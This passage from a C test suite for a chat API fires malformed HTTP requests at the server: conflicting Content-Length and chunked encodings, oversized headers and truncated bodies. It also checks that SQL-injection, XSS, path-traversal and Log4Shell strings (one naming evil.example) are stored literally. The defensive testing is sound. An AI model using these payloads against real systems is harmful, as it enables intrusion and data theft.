		{ EXP_APP, 405, "Upgrade: h2c", BASE405 "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n" },
		{ EXP_APP, 405, "Upgrade: websocket", BASE405 "Upgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n" },
		{ EXP_APP, 405, "If-None-Match *", BASE405 "If-None-Match: *\r\nIf-Modified-Since: garbage\r\n\r\n" },
		{ EXP_APP, 405, "Authorization junk", BASE405 "Authorization: Basic %%%%\r\nCookie: id=1; token=' OR 1=1\r\n\r\n" },
		/* Content-Length */
		{ EXP_NGINX, 400, "Content-Length -1", BADPOST "Content-Length: -1\r\n\r\n{}" },
		{ EXP_NGINX, 400, "Content-Length abc", BADPOST "Content-Length: abc\r\n\r\n{}" },
		{ EXP_NGINX, 400, "Content-Length +2", BADPOST "Content-Length: +2\r\n\r\n{}" },
		{ EXP_NGINX, 400, "Content-Length 1 2", BADPOST "Content-Length: 1 2\r\n\r\n{}" },
		{ EXP_NGINX, 400, "two Content-Lengths", BADPOST "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}" },
		{ EXP_NGINX, 400, "Content-Length overflows", BADPOST "Content-Length: 99999999999999999999\r\n\r\n{}" },
		{ EXP_NGINX, 400, "Content-Length 0x10", BADPOST "Content-Length: 0x10\r\n\r\n{}" },
		{ EXP_APP, 413, "Content-Length over 1 MiB, no body", BADPOST "Content-Length: 1048577\r\n\r\n" },
		{ EXP_APP, 413, "Content-Length 2^63", BADPOST "Content-Length: 9223372036854775807\r\n\r\n" },
		{ EXP_APP, 400, "Content-Length shorter than the body", BADPOST "Content-Length: 5\r\n\r\n{\"name\":\"zzbarrage\"}" },
		{ EXP_APP, 422, "Content-Length 0 with a body", BADPOST "Content-Length: 0\r\n\r\n{\"name\":\"zzbarrage\"}" },
		{ EXP_APP, 400, "message, Content-Length cuts the string", "POST {M} HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Length: 12\r\n\r\n{\"body\":\"zzbarrage\"}" },
		{ EXP_APP, 400, "GET with a body to a 400", "GET {M}?limit=0 HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Length: 2\r\n\r\n{}" },
		/* chunked */
		{ EXP_APP, 400, "chunked bad JSON", BADPOST "Transfer-Encoding: chunked\r\n\r\n5\r\n{\"nam\r\n0\r\n\r\n" },
		{ EXP_APP, 400, "chunked, chunk-extension", BADPOST "Transfer-Encoding: chunked\r\n\r\n1;ext=\"x\"\r\n{\r\n0\r\n\r\n" },
		{ EXP_APP, 422, "chunked empty", BADPOST "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" },
		{ EXP_APP, 400, "chunked in many pieces", BADPOST "Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n1\r\n\"\r\n1\r\nn\r\n0\r\n\r\n" },
		{ EXP_APP, 400, "chunked, bad size", BADPOST "Transfer-Encoding: chunked\r\n\r\nzz\r\n{\"nam\r\n0\r\n\r\n" },
		{ EXP_APP, 400, "chunked, size overflows", BADPOST "Transfer-Encoding: chunked\r\n\r\nfffffffffffffffffff\r\n{\"nam\r\n0\r\n\r\n" },
		{ EXP_APP, 400, "chunked, negative size", BADPOST "Transfer-Encoding: chunked\r\n\r\n-5\r\n{\"nam\r\n0\r\n\r\n" },
		{ EXP_APP, 400, "chunked, data longer than size", BADPOST "Transfer-Encoding: chunked\r\n\r\n2\r\n{\"name\":1}\r\n0\r\n\r\n" },
		{ EXP_APP, 400, "chunked, no CRLF after data", BADPOST "Transfer-Encoding: chunked\r\n\r\n2\r\n{}XX0\r\n\r\n" },
		{ EXP_APP, 413, "chunked, size over 1 MiB", BADPOST "Transfer-Encoding: chunked\r\n\r\n100001\r\n{" },
		{ EXP_NGINX, 400, "chunked and Content-Length", BADPOST "Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n5\r\n{\"nam\r\n0\r\n\r\n" },
		{ EXP_NGINX, 0, "Transfer-Encoding gzip", BADPOST "Transfer-Encoding: gzip\r\n\r\n{}" },
		{ EXP_NGINX, 0, "Transfer-Encoding gzip, chunked", BADPOST "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n" },
		{ EXP_NGINX, 0, "Transfer-Encoding identity", BADPOST "Transfer-Encoding: identity\r\nContent-Length: 2\r\n\r\n{}" },
		{ EXP_NGINX, 0, "Transfer-Encoding chunked, chunked", BADPOST "Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n" },
		{ EXP_APP, 400, "Content-Encoding gzip", BADPOST "Content-Encoding: gzip\r\nContent-Length: 10\r\n\r\n\x1f\x8b\x08\x01\x02\x03\x04\x05\x06\x03" },
		{ EXP_APP, 400, "form-encoded", BADPOST "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 6\r\n\r\nname=x" },
		{ EXP_APP, 400, "Expect: 100-continue", BADPOST "Expect: 100-continue\r\nContent-Length: 1\r\n\r\n{" },
		{ EXP_APP, 422, "charset latin1 (not UTF-8)", BADPOST "Content-Type: application/json; charset=latin1\r\nContent-Length: 12\r\n\r\n{\"name\":\"\xe9\"}" },
	};

	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		const char *raw = lines[i].raw;
		size_t len = strlen(raw);

		/* The rows with a NUL: their length is up to the final CRLFs. */
		if (strstr(lines[i].label, "NUL"))
			len = strlen(raw) + 1 + strlen(raw + strlen(raw) + 1);
		add_raw(lines[i].exp, lines[i].status, 0, lines[i].label, raw,
			len);
	}

	/* Header sizes: nginx's limits (large_client_header_buffers). */
	{
		char *big = repeat("a", 16 * 1024), *many = repeat(
			"X-Many: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
			"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n", 1000);
		struct chat_buf b;

		chat_buf_init(&b);
		chat_buf_addf(&b, BASE405 "X-Big: %s\r\n\r\n", big);
		add_raw(EXP_NGINX, 400, 0, "16 KiB header", b.data, b.len);
		chat_buf_reset(&b);
		chat_buf_addf(&b, BASE405 "Cookie: %s\r\n\r\n", big);
		add_raw(EXP_NGINX, 400, 0, "16 KiB cookie", b.data, b.len);
		chat_buf_reset(&b);
		chat_buf_addf(&b, BASE405 "%s\r\n", many);
		add_raw(EXP_NGINX, 400, 0, "1000 headers", b.data, b.len);
		chat_buf_reset(&b);
		chat_buf_addf(&b, "GET /applications?%s HTTP/1.1\r\nHost: a\r\n\r\n",
			      big);
		add_raw(EXP_NGINX, 0, 0, "16 KiB query", b.data, b.len);
		chat_buf_release(&b);
		free(big);
		free(many);
	}

	/* Truncated: the client shuts its side before the request is whole. */
	{
		static const char *const cut[] = {
			BADPOST "Content-Length: 100\r\n\r\n{\"name\":\"zzbarrage\"}",
			BADPOST "Content-Length: 1048576\r\n\r\n{\"name\":",
			"POST {M} HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Length: 30\r\n\r\n{\"body\":\"zzbarrage\"}",
			"PATCH {M1} HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Length: 40\r\n\r\n{\"body\":\"zzbarrage\"}",
			BADPOST "Transfer-Encoding: chunked\r\n\r\n20\r\n{\"name\":\"zzbarrage\"}",
			BADPOST "Transfer-Encoding: chunked\r\n\r\n5\r\n{\"nam\r\n",
			BADPOST "Content-Len",
			"POST /applications HTTP/1.1\r\nHo",
			"POST /applica",
			"",
		};

		for (size_t i = 0; i < sizeof(cut) / sizeof(cut[0]); i++)
			add_raw(EXP_TRUNC, 0, RAW_HALF_CLOSE, "truncated",
				cut[i], strlen(cut[i]));
	}

	/* Bodies over 1 MiB: 413 on every route under /applications. */
	{
		static const char *const where[] = {
			"POST /applications", "PATCH {A}", "PUT {A}",
			"POST {A}/chats", "POST {M}", "PATCH {M1}", "PUT {M1}",
			"GET {A}", "DELETE {C}", "GET /health",
		};
		char *big = wrap("{\"name\":\"", "a", MIB, "\"}");
		struct chat_buf b;

		chat_buf_init(&b);
		for (size_t i = 0; i < sizeof(where) / sizeof(where[0]); i++) {
			chat_buf_reset(&b);
			chat_buf_addf(&b, "%s HTTP/1.1\r\nHost: a\r\nConnection: "
				      "close\r\nContent-Length: %zu\r\n\r\n",
				      where[i], strlen(big));
			chat_buf_adds(&b, big);
			add_raw(EXP_APP, 413, 0, "body over 1 MiB", b.data,
				b.len);
		}
		/* The same, chunked in 64 KiB pieces. */
		chat_buf_reset(&b);
		chat_buf_adds(&b, BADPOST "Transfer-Encoding: chunked\r\n\r\n");
		for (size_t off = 0; off < strlen(big); off += 65536) {
			size_t n = strlen(big) - off < 65536 ? strlen(big) - off
							     : 65536;

			chat_buf_addf(&b, "%zx\r\n", n);
			chat_buf_add(&b, big + off, n);
			chat_buf_adds(&b, "\r\n");
		}
		chat_buf_adds(&b, "0\r\n\r\n");
		add_raw(EXP_APP, 413, 0, "chunked body over 1 MiB", b.data,
			b.len);
		chat_buf_release(&b);
		free(big);
	}
}

/* ------------------------------------------------------------ checks */

static const char *code_of(int status)
{
	switch (status) {
	case 400: return "bad_request";
	case 404: return "not_found";
	case 405: return "method_not_allowed";
	case 413: return "payload_too_large";
	case 422: return "validation_failed";
	case 429: return "too_many_requests";
	default: return NULL;
	}
}

/* The start of a body on one line, for messages. */
static const char *snip(const struct raw_res *res)
{
	static char out[101];
	size_t n = res->len < 100 ? res->len : 100;

	for (size_t i = 0; i < n; i++)
		out[i] = res->body[i] >= 0x20 && res->body[i] < 0x7f ?
			 res->body[i] : '.';
	out[n] = '\0';
	return out;
}

/*
 * Failures are collected, not asserted one by one, so that one run shows
 * every row that misbehaves.  FAIL records one and leaves the check.
 */
static struct chat_buf failures;
static int nfailures;

#define FAIL(...)                                                       \
	do {                                                            \
		if (nfailures++ < 60) {                                 \
			chat_buf_addf(&failures, "\n  ");               \
			chat_buf_addf(&failures, __VA_ARGS__);          \
		}                                                       \
		return false;                                           \
	} while (0)

/* No header named like an id, and none that only successes carry. */
static bool check_headers(const struct row *r, const struct raw_res *res)
{
	const char *h = strstr(res->head, "\r\n");

	while (h && h[2] && !(h[2] == '\r' && h[3] == '\n')) {
		const char *name = h + 2, *colon = strchr(name, ':');
		size_t n = colon ? (size_t)(colon - name) : 0;

		if (!colon)
			FAIL("%s: header line without a colon", r->name);
		if (n >= 2 && strncasecmp(name + n - 2, "id", 2) == 0 &&
		    (n == 2 || name[n - 3] == '-' || name[n - 3] == '_'))
			FAIL("%s: header %.*s may carry an id", r->name,
			     (int)n, name);
		h = strstr(name, "\r\n");
	}
	if (raw_header_count(res, "Location") ||
	    raw_header_count(res, "Link") ||
	    raw_header_count(res, "Set-Cookie"))
		FAIL("%s: a %d with Location, Link or Set-Cookie", r->name,
		     res->status);
	return true;
}

/* The contract's error body: exactly "error" (the code) and "message". */
static bool check_error_body(const struct row *r, const struct raw_res *res)
{
	const char *code = code_of(res->status);
	char *ct = raw_header(res, "Content-Type");
	bool json_ct = ct && strcmp(ct, "application/json; charset=utf-8") == 0;
	struct json_object *v;

	free(ct);
	if (!json_ct)
		FAIL("%s: a %d that is not JSON: %s", r->name, res->status,
		     snip(res));
	if (r->flags & RAW_HEAD) {
		if (res->len)
			FAIL("%s: HEAD answered with a body", r->name);
		return true;
	}
	if (!res->json || !json_object_is_type(res->json, json_type_object))
		FAIL("%s: %d body is not a JSON object: %s", r->name,
		     res->status, snip(res));
	if (json_has_key_deep(res->json, "id"))
		FAIL("%s: body holds an id: %s", r->name, snip(res));
	if (json_object_object_length(res->json) != 2)
		FAIL("%s: error body keys: %s", r->name, snip(res));
	if (!json_object_object_get_ex(res->json, "error", &v) ||
	    !json_object_is_type(v, json_type_string))
		FAIL("%s: no error code: %s", r->name, snip(res));
	if (code && strcmp(json_object_get_string(v), code) != 0)
		FAIL("%s: error code for %d: %s", r->name, res->status,
		     res->body);
	if (!json_object_object_get_ex(res->json, "message", &v) ||
	    !json_object_is_type(v, json_type_string) ||
	    json_object_get_string_len(v) == 0)
		FAIL("%s: no message: %s", r->name, snip(res));
	return true;
}

static bool check_row(const struct row *r, const struct raw_res *res)
{
	if (res->timed_out)
		FAIL("%s: no answer within %d ms", r->name, TIMEOUT_MS);
	if (res->garbled)
		FAIL("%s: not an HTTP response", r->name);
	if (r->exp == EXP_TRUNC && res->closed_silently)
		return true;
	if (res->status == 0)
		FAIL("%s: connection dropped (%s)", r->name,
		     res->closed_silently ? "closed without an answer" :
					    strerror(res->sys_errno));
	if (res->status >= 500)
		FAIL("%s: %d %s", r->name, res->status, snip(res));
	if (r->status && res->status != r->status)
		FAIL("%s: expected %d, got %d: %s", r->name, r->status,
		     res->status, snip(res));
	if (res->status < 400 || res->status >= 500)
		FAIL("%s: expected a 4xx, got %d: %s", r->name,
		     res->status, snip(res));
	if (!check_headers(r, res) || !check_error_body(r, res))
		return false;
	/* nginx's own 405 (TRACE, CONNECT) has the route's, by its map. */
	if (res->status == 405 && (r->exp == EXP_APP || r->allow)) {
		char *allow = raw_header(res, "Allow");
		bool ok = allow && *allow && (!r->allow ||
					      strcmp(allow, r->allow) == 0);

		if (!ok) {
			char copy[64];

			snprintf(copy, sizeof(copy), "%s", allow ? allow : "");
			free(allow);
			FAIL("%s: a 405 with Allow '%s'%s%s", r->name, copy,
			     r->allow ? ", not " : "", r->allow ? r->allow : "");
		}
		free(allow);
	}
	return true;
}

static void run_row(const struct row *r)
{
	struct raw_res res;

	raw_exchange(r->req.data, r->req.len, r->flags, TIMEOUT_MS, &res);
	/*
	 * POST /applications is rate-limited per client address, and this
	 * test sends many: a 429 is the limiter, not the row's answer, so
	 * the row is sent again after Retry-After (1 s).
	 */
	for (int tries = 0; res.status == 429 && r->status != 429 &&
			    tries < 60; tries++) {
		raw_res_release(&res);
		usleep(1000 * 1000);
		raw_exchange(r->req.data, r->req.len, r->flags, TIMEOUT_MS,
			     &res);
	}
	check_row(r, &res);
	raw_res_release(&res);
}

/* ------------------------------------------------------------ the data */

struct snapshot {
	char *rows;		/* the application, its chats and messages */
	char *counters;		/* its numbering counters in Redis */
};

static const char snapshot_sql[] =
	"SELECT CONCAT_WS('|', HEX(a.token_sha256), a.name, a.created_at, a.updated_at, "
	" (SELECT GROUP_CONCAT(CONCAT_WS(',', c.number, c.created_at, "
	"   c.updated_at) ORDER BY c.number SEPARATOR ';') "
	"  FROM chats c WHERE c.application_id = a.id), "
	" (SELECT GROUP_CONCAT(CONCAT_WS(',', c.number, m.number, HEX(m.body), "
	"   m.created_at, m.updated_at) ORDER BY c.number, m.number "
	"   SEPARATOR ';') "
	"  FROM chats c JOIN messages m ON m.chat_id = c.id "
	"  WHERE c.application_id = a.id)) "
	"FROM applications a WHERE a." TDB_TOKEN_IS;

static char *redis_get(const char *key)
{
	redisReply *r = tredis("GET %s", key);
	char *v = r->type == REDIS_REPLY_STRING ? xstrdup(r->str) :
						  xstrdup("(nil)");

	freeReplyObject(r);
	return v;
}

static void take_snapshot(struct snapshot *s)
{
	int64_t id = tdb_int("SELECT id FROM applications WHERE " TDB_TOKEN_IS,
			     token, NULL);
	char *chats, *msgs, *dels;
	redisReply *r;

	cr_assert_gt(id, 0);
	s->rows = tdb_str(snapshot_sql, token, NULL);
	cr_assert_not_null(s->rows);
	chats = http_path("chat:{s%d}:a%lld:n", (int)(id % 16), (long long)id);
	msgs = http_path("chat:{s%d}:a%lld:c1:n", (int)(id % 16), (long long)id);
	dels = http_path("chat:{s%d}:a%lld:del", (int)(id % 16), (long long)id);
	{
		char *a = redis_get(chats), *b = redis_get(msgs);

		r = tredis("ZCARD %s", dels);
		s->counters = http_path("chats=%s messages=%s deleted=%lld", a,
					b, r->integer);
		freeReplyObject(r);
		free(a);
		free(b);
	}
	free(chats);
	free(msgs);
	free(dels);
}

static bool message_persisted(void *arg)
{
	struct http_res *res = http_get(arg);
	bool ok = res->status == 200;

	http_res_free(res);
	return ok;
}

/* An application with chat 1 and messages 1..3, all persisted. */
static void make_target(void)
{
	struct http_res *res;
	char *app, *path;
	char *t = app_create("barrage target");

	snprintf(token, sizeof(token), "%s", t);
	free(t);
	app = http_path("/applications/%s", token);
	path = http_path("%s/chats", app);
	res = http_send("POST", path, NULL);
	cr_assert_eq(res->status, 202, "%s", res->body);
	http_res_free(res);
	free(path);
	path = http_path("%s/chats/1/messages", app);
	for (int i = 1; i <= 3; i++) {
		char body[64];

		snprintf(body, sizeof(body), "{\"body\":\"target message %d\"}", i);
		res = http_send("POST", path, body);
		cr_assert_eq(res->status, 202, "%s", res->body);
		http_res_free(res);
	}
	free(path);
	path = http_path("%s/chats/1/messages/3", app);
	cr_assert(wait_until(message_persisted, path, 20000),
		  "the worker did not persist the target messages");
	free(path);
	free(app);
}

/* ------------------------------------------------------------ tests */

Test(barrage, hostile_requests)
{
	struct snapshot before, after;
	int64_t n;
	double start;

	make_target();
	take_snapshot(&before);

	rows_bad_json();
	rows_bad_field('n');
	rows_bad_field('b');
	rows_paths();
	rows_query();
	rows_methods();
	rows_wire();
	cr_assert_geq(nrows, 300, "only %zu rows", nrows);

	start = mono_ms();
	chat_buf_init(&failures);
	for (size_t i = 0; i < nrows; i++)
		run_row(&rows[i]);
	cr_log_info("barrage: %zu hostile requests in %.1f s", nrows,
		    (mono_ms() - start) / 1000);
	cr_assert_eq(nfailures, 0, "%d of %zu hostile requests got a wrong "
		     "answer (first 60):%s", nfailures, nrows, failures.data);
	chat_buf_release(&failures);

	/* The worker has had time to persist anything wrongly queued. */
	msleep(1500);
	take_snapshot(&after);
	cr_assert_str_eq(after.rows, before.rows,
			 "the stored application changed");
	cr_assert_str_eq(after.counters, before.counters,
			 "a rejected request used up a number");
	n = tdb_int("SELECT COUNT(*) FROM applications WHERE name LIKE "
		    "'%zzbarrage%'", NULL);
	cr_assert_eq(n, 0, "%lld applications were created by hostile requests",
		     (long long)n);
	n = tdb_int("SELECT COUNT(*) FROM messages WHERE body LIKE "
		    "'%zzbarrage%'", NULL);
	cr_assert_eq(n, 0, "%lld messages were created by hostile requests",
		     (long long)n);

	/* The stack still serves. */
	{
		struct http_res *res = http_get("/health");

		cr_assert_eq(res->status, 200, "/health after the barrage: %s",
			     res->body);
		http_res_free(res);
	}
	for (size_t i = 0; i < nrows; i++) {
		free(rows[i].name);
		chat_buf_release(&rows[i].req);
	}
	free(rows);
	free(bodies);
}

/* ------------------------------------------------------------ literal */

/*
 * Injection strings that are valid names, bodies and queries: stored and
 * given back byte for byte, and searched as plain words.
 */
static const char *const injections[] = {
	"'; DROP TABLE applications; --",
	"Robert'); DROP TABLE students;--",
	"' OR '1'='1",
	"1 OR 1=1; SELECT * FROM applications",
	"\" OR \"\"=\"",
	"admin'--",
	"%' AND 1=0 UNION SELECT token, id FROM applications --",
	"\\'; SHUTDOWN; --",
	"{\"query\":{\"match_all\":{}}}",
	"*:*",
	"body:* OR _id:*",
	"\"}},{\"match_all\":{}},{\"a\":{\"",
	"<script>alert(1)</script>",
	"${jndi:ldap://evil.example/a}",
	"../../../../etc/passwd",
	"%2e%2e%2f%00",
	"\\u0000 not a NUL",
	"$where: '1 == 1'",
	"ctx._source.body = 'owned'",
	"\xf0\x9f\x98\x80 \xe2\x80\xae reversed \xe2\x80\xad",
};
#define NINJ (sizeof(injections) / sizeof(injections[0]))

static char *json_of(const char *key, const char *value)
{
	struct json_object *o = json_object_new_object();
	char *s;

	json_object_object_add(o, key, json_object_new_string(value));
	s = xstrdup(json_object_to_json_string_ext(o, JSON_C_TO_STRING_PLAIN));
	json_object_put(o);
	return s;
}

static char *url_encode(const char *s)
{
	struct chat_buf b;

	chat_buf_init(&b);
	for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
		if ((*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') ||
		    (*p >= '0' && *p <= '9') || strchr("-_.~", *p))
			chat_buf_addch(&b, (char)*p);
		else
			chat_buf_addf(&b, "%%%02X", *p);
	}
	return chat_buf_detach(&b, NULL);
}

static bool word_byte(char c)
{
	return isalnum((unsigned char)c) && !((unsigned char)c & 0x80);
}

/*
 * The next word of s at or after *i: ASCII letters and digits, with `_`
 * between two of them belonging to the word (Unicode's word rules).
 */
static bool next_word(const char *s, size_t *i, size_t *off, size_t *len)
{
	while (s[*i] && !word_byte(s[*i]))
		(*i)++;
	if (!s[*i])
		return false;
	*off = *i;
	for (;;) {
		size_t j;

		while (word_byte(s[*i]))
			(*i)++;
		for (j = *i; s[j] == '_'; j++)
			;
		if (j == *i || !word_byte(s[j]))
			break;
		*i = j;
	}
	*len = *i - *off;
	return true;
}

/*
 * The contract's matching for ASCII texts (every non-ASCII character of
 * the texts here is a separator): every word of q matches, a word of
 * three or more characters inside a word of the body, a shorter one at
 * its start, ignoring case.  A query without a word matches nothing.
 */
static bool search_oracle(const char *body, const char *q)
{
	size_t qi = 0, qo, ql;
	bool any = false;

	while (next_word(q, &qi, &qo, &ql)) {
		size_t bi = 0, bo, bl;
		bool found = false;

		any = true;
		while (!found && next_word(body, &bi, &bo, &bl)) {
			for (size_t at = 0; !found && at + ql <= bl; at++) {
				found = strncasecmp(body + bo + at, q + qo, ql) == 0;
				if (ql < 3)
					break;	/* only at the start */
			}
		}
		if (!found)
			return false;
	}
	return any;
}

static bool all_persisted(void *arg)
{
	char *path = http_path("%s/%zu", (const char *)arg, NINJ + 2);
	bool ok = message_persisted(path);

	free(path);
	return ok;
}

Test(barrage, injection_is_literal)
{
	char *app_tok, *app, *msgs, *path;
	struct http_res *res;

	for (size_t i = 0; i < NINJ; i++) {
		char *body = json_of("name", injections[i]);

		res = http_send("POST", "/applications", body);
		cr_assert_eq(res->status, 201, "name %s: %ld %s", injections[i],
			     res->status, res->body);
		http_assert_contract(res);
		cr_assert_str_eq(http_json_str(res, "name"), injections[i]);
		path = http_path("/applications/%s", http_json_str(res, "token"));
		http_res_free(res);
		res = http_get(path);
		cr_assert_eq(res->status, 200);
		cr_assert_str_eq(http_json_str(res, "name"), injections[i]);
		http_res_free(res);
		free(path);
		free(body);
	}

	app_tok = app_create("injection bodies");
	app = http_path("/applications/%s", app_tok);
	path = http_path("%s/chats", app);
	res = http_send("POST", path, NULL);
	cr_assert_eq(res->status, 202);
	http_res_free(res);
	free(path);
	msgs = http_path("%s/chats/1/messages", app);
	/* Two plain messages first: 1 "alpha beta", 2 "gamma". */
	res = http_send("POST", msgs, "{\"body\":\"alpha beta\"}");
	cr_assert_eq(res->status, 202);
	http_res_free(res);
	res = http_send("POST", msgs, "{\"body\":\"gamma\"}");
	cr_assert_eq(res->status, 202);
	http_res_free(res);
	for (size_t i = 0; i < NINJ; i++) {
		char *body = json_of("body", injections[i]);

		res = http_send("POST", msgs, body);
		cr_assert_eq(res->status, 202, "body %s: %ld %s", injections[i],
			     res->status, res->body);
		http_assert_contract(res);
		http_res_free(res);
		free(body);
	}
	cr_assert(wait_until(all_persisted, msgs, 20000),
		  "the injection messages were not persisted");
	for (size_t i = 0; i < NINJ; i++) {
		path = http_path("%s/%zu", msgs, i + 3);
		res = http_get(path);
		cr_assert_eq(res->status, 200);
		http_assert_contract(res);
		cr_assert_str_eq(http_json_str(res, "body"), injections[i]);
		http_res_free(res);
		free(path);
	}
	/*
	 * Queries that would match everything, or error out, if they reached
	 * a query parser: the answer is exactly what the contract's plain
	 * word matching gives (search_oracle), no more.
	 */
	{
		static const char *const qs[] = {
			"*", "*:*", "body:gamma", "gamma OR alpha",
			"alpha AND NOT beta OR gamma", "gamma\" OR \"1\"=\"1",
			"{\"match_all\":{}}", "match_all", "_id:*",
			"gamma) OR (alpha", "gamma || alpha", "/.*/",
			"alpha~2 gamma", "' OR 1=1 --", "?", "\\", "\"",
			"\xff\xfe", "DROP TABLE", "drop table students",
			"SELECT * FROM applications", "al*", "gam?a",
			"alpha^10", "beta alpha", "ctx._source", "script",
			"<script>", "jndi:ldap", "../../etc", "%2e", "u0000",
		};
		const char *texts[NINJ + 2];

		texts[0] = "alpha beta";
		texts[1] = "gamma";
		for (size_t i = 0; i < NINJ; i++)
			texts[i + 2] = injections[i];
		/* Searchable within 2 s of the 202; allow more under load. */
		msleep(2500);
		for (size_t i = 0; i < sizeof(qs) / sizeof(qs[0]); i++) {
			char *q = url_encode(qs[i]);
			bool want[NINJ + 2];
			size_t nwant = 0, n;

			for (size_t k = 0; k < NINJ + 2; k++)
				nwant += want[k] = search_oracle(texts[k], qs[i]);
			path = http_path("%s/search?q=%s&limit=100", msgs, q);
			res = http_get(path);
			cr_assert_eq(res->status, 200, "q=%s: %ld %s", qs[i],
				     res->status, res->body);
			http_assert_contract(res);
			cr_assert(json_object_is_type(res->json, json_type_array));
			n = json_object_array_length(res->json);
			cr_assert_eq(n, nwant, "q=%s: %zu results, %zu expected: "
				     "%.400s", qs[i], n, nwant, res->body);
			for (size_t k = 0; k < n; k++) {
				int64_t num = 0;

				cr_assert(json_int(json_object_array_get_idx(
						   res->json, k), "number", &num));
				cr_assert(num >= 1 && num <= (int64_t)NINJ + 2 &&
					  want[num - 1], "q=%s found message "
					  "%lld: %.400s", qs[i], (long long)num,
					  res->body);
			}
			http_res_free(res);
			free(path);
			free(q);
		}
	}
	free(msgs);
	free(app);
	free(app_tok);
}

/* ------------------------------------------------------------ analyzer */

struct search_want {
	const char *messages, *word;
	int64_t number;
};

static bool found_alone(void *arg)
{
	const struct search_want *w = arg;
	char *path = http_path("%s/search?q=%s", w->messages, w->word);
	struct http_res *res = http_get(path);
	int64_t n = 0;
	bool ok = res->status == 200 &&
		  json_object_is_type(res->json, json_type_array) &&
		  json_object_array_length(res->json) == 1 &&
		  json_int(json_object_array_get_idx(res->json, 0), "number",
			   &n) && n == w->number;

	http_res_free(res);
	free(path);
	return ok;
}

/*
 * Valid bodies made almost entirely of separators (65,000 spaces, 21,800
 * euro signs, 30,000 dashes): indexed like any other message, and the
 * index still takes messages after them.  A word-break pattern that
 * recursed once per character overflowed the engine's regex stack on such
 * bodies, and the failure closed the index writer: no message was
 * indexed any more until the engine restarted.
 */
Test(barrage, long_separator_runs)
{
	static const struct {
		const char *unit, *word;
		size_t n;
	} bodies_[] = {
		{ " ", "sepspaces", 65000 },
		{ "\xe2\x82\xac", "sepeuros", 21800 },
		{ "-", "sepdashes", 30000 },
		{ "\xe3\x80\x80", "sepideographic", 21000 },
	};
	char *tok = app_create("separator runs");
	char *app = http_path("/applications/%s", tok);
	char *chats = http_path("%s/chats", app);
	char *msgs = http_path("%s/chats/1/messages", app);
	char *last;
	struct http_res *res = http_send("POST", chats, NULL);
	size_t n = sizeof(bodies_) / sizeof(bodies_[0]);

	cr_assert_eq(res->status, 202);
	http_res_free(res);
	for (size_t i = 0; i < n; i++) {
		char *run = repeat(bodies_[i].unit, bodies_[i].n);
		char *text = http_path("start%s%s %s", bodies_[i].word, run,
				       bodies_[i].word);
		char *body = json_of("body", text);

		res = http_send("POST", msgs, body);
		cr_assert_eq(res->status, 202, "%s: %ld %s", bodies_[i].word,
			     res->status, res->body);
		http_res_free(res);
		free(body);
		free(text);
		free(run);
	}
	res = http_send("POST", msgs, "{\"body\":\"sepcanary after them\"}");
	cr_assert_eq(res->status, 202);
	http_res_free(res);
	last = http_path("%s/%zu", msgs, n + 1);
	cr_assert(wait_until(message_persisted, last, 20000),
		  "the messages were not persisted");
	{
		struct search_want canary = { msgs, "sepcanary", (int64_t)n + 1 };

		cr_assert(wait_until(found_alone, &canary, 15000),
			  "a message sent after bodies full of separators is "
			  "not searchable: did the engine's analyzer fail on "
			  "them (see chat_word_breaks in lib/search-index.json "
			  "and the engine's log)?");
	}
	for (size_t i = 0; i < n; i++) {
		struct search_want w = { msgs, bodies_[i].word, (int64_t)i + 1 };

		cr_assert(wait_until(found_alone, &w, 5000),
			  "the body of %zu x '%s' is not searchable by its word",
			  bodies_[i].n, bodies_[i].unit);
	}
	free(last);
	free(msgs);
	free(chats);
	free(app);
	free(tok);
}

/* ------------------------------------------------------------ tokens */

/*
 * lib/token.c must take its bytes from getrandom(2), and nothing else.
 * This executable's getrandom interposes the C library's (libchat.a is
 * linked in statically, so chat_token_new calls this one): it counts the
 * calls and, when `fake` is set, returns known bytes, so the token must
 * be exactly their base64url encoding.
 */
static int getrandom_calls;
static int getrandom_fake;

ssize_t getrandom(void *buf, size_t len, unsigned int flags)
{
	getrandom_calls++;
	if (getrandom_fake) {
		for (size_t i = 0; i < len; i++)
			((unsigned char *)buf)[i] = (unsigned char)(i * 37 + 11);
		return (ssize_t)len;
	}
	return syscall(SYS_getrandom, buf, len, flags);
}

Test(barrage, tokens_come_from_getrandom)
{
	static const char b64[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
	unsigned char raw[CHAT_TOKEN_LEN];
	char t[CHAT_TOKEN_LEN + 1], want[CHAT_TOKEN_LEN + 1];
	size_t nbytes = CHAT_TOKEN_LEN / 4 * 3, o = 0;

	getrandom_calls = 0;
	getrandom_fake = 1;
	cr_assert_eq(chat_token_new(t), 0);
	getrandom_fake = 0;
	cr_assert_gt(getrandom_calls, 0, "chat_token_new did not call getrandom");
	for (size_t i = 0; i < nbytes; i++)
		raw[i] = (unsigned char)(i * 37 + 11);
	for (size_t i = 0; i < nbytes; i += 3) {
		unsigned v = (unsigned)raw[i] << 16 | (unsigned)raw[i + 1] << 8 |
			     raw[i + 2];

		want[o++] = b64[(v >> 18) & 63];
		want[o++] = b64[(v >> 12) & 63];
		want[o++] = b64[(v >> 6) & 63];
		want[o++] = b64[v & 63];
	}
	want[o] = '\0';
	cr_assert_str_eq(t, want, "the token is not the base64url of the "
			 "getrandom bytes alone");
